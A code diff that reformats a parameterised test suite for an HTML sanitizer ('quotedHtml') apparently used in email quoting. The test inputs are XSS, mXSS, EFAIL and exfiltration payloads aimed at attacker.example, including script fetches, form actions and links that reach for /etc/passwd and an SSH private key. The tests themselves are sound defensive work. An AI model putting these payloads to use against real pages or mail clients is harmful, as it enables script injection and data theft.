@@ -26,13 +26,34 @@ describe('quotedHtml', () => {
   it.each([
     ['script', '<p>Hello</p><script>fetch("https://attacker.example/s")</script>'],
     ['handlers', '<p onclick="fetch(1)" onmouseover="x()">Hello</p><img src=x onerror="fetch(2)">'],
-    ['meta refresh and base', '<meta http-equiv="refresh" content="0;url=https://attacker.example/"><base href="https://attacker.example/"><p>Hello</p>'],
-    ['frames and plugins', '<iframe srcdoc="<script>x()</script>"></iframe><object data="javascript:x()">Ob</object><embed src="https://attacker.example/e"><p>Hello</p>'],
-    ['dangerous links', '<a href="javascript:x()">j</a><a href="smb://attacker.example/s">s</a><a href="file:///etc/passwd">f</a><a href="mailto:bob@harbor.test?attach=~/.ssh/id_rsa">m</a><a href="https://user:pw@attacker.example/">u</a><p>Hello</p>'],
-    ['remote images and sources', '<img srcset="https://attacker.example/1x.png 1x"><video poster="https://attacker.example/p.png"></video><picture><source srcset="https://attacker.example/s.png"></picture><p>Hello</p>'],
-    ['forms', '<form action="https://attacker.example/f"><input name="q" value="v"><button formaction="https://attacker.example/b">Go</button></form><p>Hello</p>'],
-    ['css', '<style>@import url(https://attacker.example/i.css); @\\69 mport "x"</style><link rel=stylesheet href="https://attacker.example/l.css"><p style="background:url(https://attacker.example/bg)">Hello</p>'],
-    ['mXSS through math and style', '<math><mtext><table><mglyph><style><img src=https://attacker.example/m onerror=alert(1)></style></mglyph></table></mtext></math><p>Hello</p>'],
+    [
+      'meta refresh and base',
+      '<meta http-equiv="refresh" content="0;url=https://attacker.example/"><base href="https://attacker.example/"><p>Hello</p>',
+    ],
+    [
+      'frames and plugins',
+      '<iframe srcdoc="<script>x()</script>"></iframe><object data="javascript:x()">Ob</object><embed src="https://attacker.example/e"><p>Hello</p>',
+    ],
+    [
+      'dangerous links',
+      '<a href="javascript:x()">j</a><a href="smb://attacker.example/s">s</a><a href="file:///etc/passwd">f</a><a href="mailto:bob@harbor.test?attach=~/.ssh/id_rsa">m</a><a href="https://user:pw@attacker.example/">u</a><p>Hello</p>',
+    ],
+    [
+      'remote images and sources',
+      '<img srcset="https://attacker.example/1x.png 1x"><video poster="https://attacker.example/p.png"></video><picture><source srcset="https://attacker.example/s.png"></picture><p>Hello</p>',
+    ],
+    [
+      'forms',
+      '<form action="https://attacker.example/f"><input name="q" value="v"><button formaction="https://attacker.example/b">Go</button></form><p>Hello</p>',
+    ],
+    [
+      'css',
+      '<style>@import url(https://attacker.example/i.css); @\\69 mport "x"</style><link rel=stylesheet href="https://attacker.example/l.css"><p style="background:url(https://attacker.example/bg)">Hello</p>',
+    ],
+    [
+      'mXSS through math and style',
+      '<math><mtext><table><mglyph><style><img src=https://attacker.example/m onerror=alert(1)></style></mglyph></table></mtext></math><p>Hello</p>',
+    ],
     ['comments', '<!--<img src="--><img src=https://attacker.example/c onerror=alert(1)//">--><p>Hello</p>'],
     ['EFAIL', '<img src="https://attacker.example/efail?<br/>\n<p>secret</p>"><p>Hello</p>'],
   ])('%s: nothing that could run, load or navigate is left, the text is', (_name, html) => {
